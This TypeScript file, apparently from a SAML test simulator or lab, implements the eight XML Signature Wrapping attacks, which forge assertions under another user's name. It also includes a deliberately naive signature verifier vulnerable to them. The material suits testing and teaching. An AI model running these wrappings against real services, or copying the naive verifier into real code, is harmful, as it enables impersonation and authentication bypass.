import { SignedXml } from 'xml-crypto'
import { newXmlId } from '#simulators/saml-idp/answer.ts'

// Edits the XML as text: a parser could normalise away what an attack depends on.
const signaturePattern = /<ds:Signature .*?<\/ds:Signature>/s
const assertionPattern = /<saml:Assertion .*<\/saml:Assertion>/s
const found = (pattern: RegExp, xml: string) => pattern.exec(xml)?.[0] ?? ''

/** The first signature in the XML. */
export const signatureOf = (xml: string) => found(signaturePattern, xml)
export const withoutSignature = (xml: string) => xml.replace(signaturePattern, '')
export const assertionOf = (xml: string) => found(assertionPattern, xml)
export const replaceAssertion = (xml: string, by: string) => xml.replace(assertionPattern, () => by)

/** Inserts XML where a signature belongs: after the first issuer. */
export const afterIssuer = (xml: string, what: string) => xml.replace('</saml:Issuer>', () => `</saml:Issuer>${what}`)
const intoSignature = (signature: string, what: string) =>
  signature.replace('</ds:Signature>', `${what}</ds:Signature>`)
const intoEnd = (xml: string, what: string) => xml.replace(/(<\/[\w:]+>)$/, (end) => `${what}${end}`)

/** An unsigned copy with another person's name and a new ID. */
export const forged = (xml: string, from: string, to: string) =>
  withoutSignature(xml)
    .replace(/ ID="[^"]+"/, ` ID="${newXmlId()}"`)
    .replaceAll(`>${from}<`, `>${to}<`)

export interface Wrapping {
  name: string
  /** What has to be signed for it. */
  signed: 'response' | 'assertion'
  wrap(xml: string, from: string, to: string): string
}

interface AssertionParts {
  evil: string
  original: string
  signature: string
}

const aroundAssertion =
  (build: (parts: AssertionParts) => string): Wrapping['wrap'] =>
  (xml, from, to) => {
    const signed = assertionOf(xml)
    const original = withoutSignature(signed)
    return replaceAssertion(xml, build({ evil: forged(signed, from, to), original, signature: signatureOf(signed) }))
  }
const resigned = ({ original, signature }: AssertionParts) => afterIssuer(original, signature)

/** The eight forms of "On Breaking SAML: Be Whoever You Want to Be" (2012), numbered as in common tools. */
export const wrappings: Wrapping[] = [
  {
    name: 'XSW1: the signed response inside the signature of a forged one',
    signed: 'response',
    wrap: (xml, from, to) => afterIssuer(forged(xml, from, to), intoSignature(signatureOf(xml), withoutSignature(xml))),
  },
  {
    name: 'XSW2: the signed response beside its signature in a forged one',
    signed: 'response',
    wrap: (xml, from, to) => afterIssuer(forged(xml, from, to), withoutSignature(xml) + signatureOf(xml)),
  },
  {
    name: 'XSW3: a forged assertion before the signed one',
    signed: 'assertion',
    wrap: aroundAssertion((parts) => parts.evil + resigned(parts)),
  },
  {
    name: 'XSW4: a forged assertion around the signed one',
    signed: 'assertion',
    wrap: aroundAssertion((parts) => intoEnd(parts.evil, resigned(parts))),
  },
  {
    name: 'XSW5: a forged assertion with the signature, the signed one behind it',
    signed: 'assertion',
    wrap: aroundAssertion(({ evil, original, signature }) => afterIssuer(evil, signature) + original),
  },
  {
    name: 'XSW6: a forged assertion with the signature, the signed one inside that',
    signed: 'assertion',
    wrap: aroundAssertion(({ evil, original, signature }) => afterIssuer(evil, intoSignature(signature, original))),
  },
  {
    name: 'XSW7: a forged assertion in the extensions',
    signed: 'assertion',
    wrap: (xml, from, to) =>
      afterIssuer(xml, `<samlp:Extensions>${forged(assertionOf(xml), from, to)}</samlp:Extensions>`),
  },
  {
    name: 'XSW8: a forged assertion with the signature, the signed one in its object',
    signed: 'assertion',
    wrap: aroundAssertion(({ evil, original, signature }) =>
      afterIssuer(evil, intoSignature(signature, `<ds:Object>${original}</ds:Object>`)),
    ),
  },
]

/** A naive verifier, which checks the signature but not the position of the signed element. */
export function naivelyVerifies(xml: string, certificate: string): boolean {
  const signed = new SignedXml({ publicCert: certificate })
  signed.loadSignature(signatureOf(xml))
  return signed.checkSignature(xml)
}
